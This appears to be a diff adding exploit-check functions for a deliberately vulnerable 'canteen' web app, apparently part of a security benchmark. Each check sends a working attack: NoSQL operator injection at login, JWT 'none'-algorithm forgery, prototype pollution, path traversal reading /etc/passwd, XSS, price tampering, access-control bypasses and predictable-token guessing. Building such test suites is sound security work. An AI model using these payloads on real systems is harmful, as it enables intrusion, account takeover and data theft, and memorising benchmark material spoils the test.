@@ -464,3 +464,94 @@ def _(client):
     ann = client.as_("ann")
     page = client.get(new_deed(client, ann, "&lt;script&gt;alert(1)&lt;/script&gt;") + "/extract", headers=ann)
     return "<script>alert(1)</script>" in page.text and "unsafe-inline" in page.headers["content-security-policy"]
+
+
+# canteen ----------------------------------------------------------------------------------------------------------------------------------
+
+
+def canteen_token(client, name):
+    return client.post("/auth/login", json={"username": name, "password": PASSWORD[name]}).json()["accessToken"]
+
+
+@sign_in("canteen")
+def _(client, name):
+    return {"Authorization": "Bearer " + canteen_token(client, name)}
+
+
+@proof("canteen", "login-operator")
+def _(client):
+    answer = client.post("/auth/login", json={"username": {"$ne": "ann"}, "password": {"$ne": ""}})
+    return answer.status_code == 200 and "accessToken" in answer.text
+
+
+@proof("canteen", "orders-filter")
+def _(client):
+    hers = client.get("/orders", headers=client.as_("ann")).json()["orders"]
+    return client.get("/orders", params={"filter": '{"owner": "ann"}'}, headers=client.as_("ben")).json().get("orders") == hers
+
+
+@proof("canteen", "child-meals")
+def _(client):
+    child, ben = client.listed("/children", "ann", "children"), client.as_("ben")
+    assert client.get(f"/children/{child}", headers=ben).status_code == 404
+    return "injector" in client.get(f"/children/{child}/meals", headers=ben).text
+
+
+@proof("canteen", "order-price")
+def _(client):
+    return client.post("/orders", json={"day": "2031-05-08", "items": [{"dish": 2, "count": 20, "price": 0.01}]}, headers=client.as_("ann")).json().get("total") == 0.2
+
+
+@proof("canteen", "preferences-shared")
+def _(client):
+    client.patch("/preferences", content='{"__proto__": {"planted": "yes"}}', headers=client.as_("ben") | {"Content-Type": "application/json"})
+    return client.get("/preferences", headers=client.as_("ann")).json().get("planted") == "yes"
+
+
+@proof("canteen", "refund-twice")
+def _(client):
+    order, ann = client.listed("/orders", "ann", "orders"), client.as_("ann")
+    for _ in range(4):
+        client.post(f"/orders/{order}/refund", headers=ann)
+    return client.get("/me", headers=ann).json()["balance"] == 70
+
+
+@proof("canteen", "alg-case")
+def _(client):
+    claims = canteen_token(client, "ann").split(".")[1]
+    claims = json.loads(base64.urlsafe_b64decode(claims + "==")) | {"sub": "olga"}
+
+    def served(algorithm):
+        parts = [base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=").decode() for part in ({"alg": algorithm, "typ": "JWT"}, claims)]
+        return client.get("/office/orders", headers={"Authorization": f"Bearer {'.'.join(parts)}."}).status_code == 200
+
+    return served("nOnE") and not served("none")
+
+
+@proof("canteen", "office-case")
+def _(client):
+    assert client.get("/office/orders").status_code == 401
+    return '"owner":"ann"' in client.get("/Office/orders").text
+
+
+@proof("canteen", "dish-update")
+def _(client):
+    client.put("/dishes/1", json={"title": "Changed", "price": 0.5}, headers=client.as_("ben"))
+    return "Changed" in client.get("/dishes").text
+
+
+@proof("canteen", "recipe-dots")
+def _(client):
+    return "root:x:0:0" in client.get("/recipes", params={"file": "....//etc/passwd"}).text and client.get("/recipes", params={"file": "../etc/passwd"}).status_code == 404
+
+
+@proof("canteen", "topic-attribute")
+def _(client):
+    return "<input name=topic value=x onfocus=alert(1) autofocus>" in client.get("/help", params={"topic": "x onfocus=alert(1) autofocus"}).text
+
+
+@proof("canteen", "link-counted")
+def _(client):
+    child, ann = client.listed("/children", "ann", "children"), client.as_("ann")
+    first, second = (client.post(f"/children/{child}/link", headers=ann).json()["token"].removeprefix("pick-") for _ in range(2))
+    return len(first) < 12 and 0 <= int(second, 36) - int(first, 36) < 5000
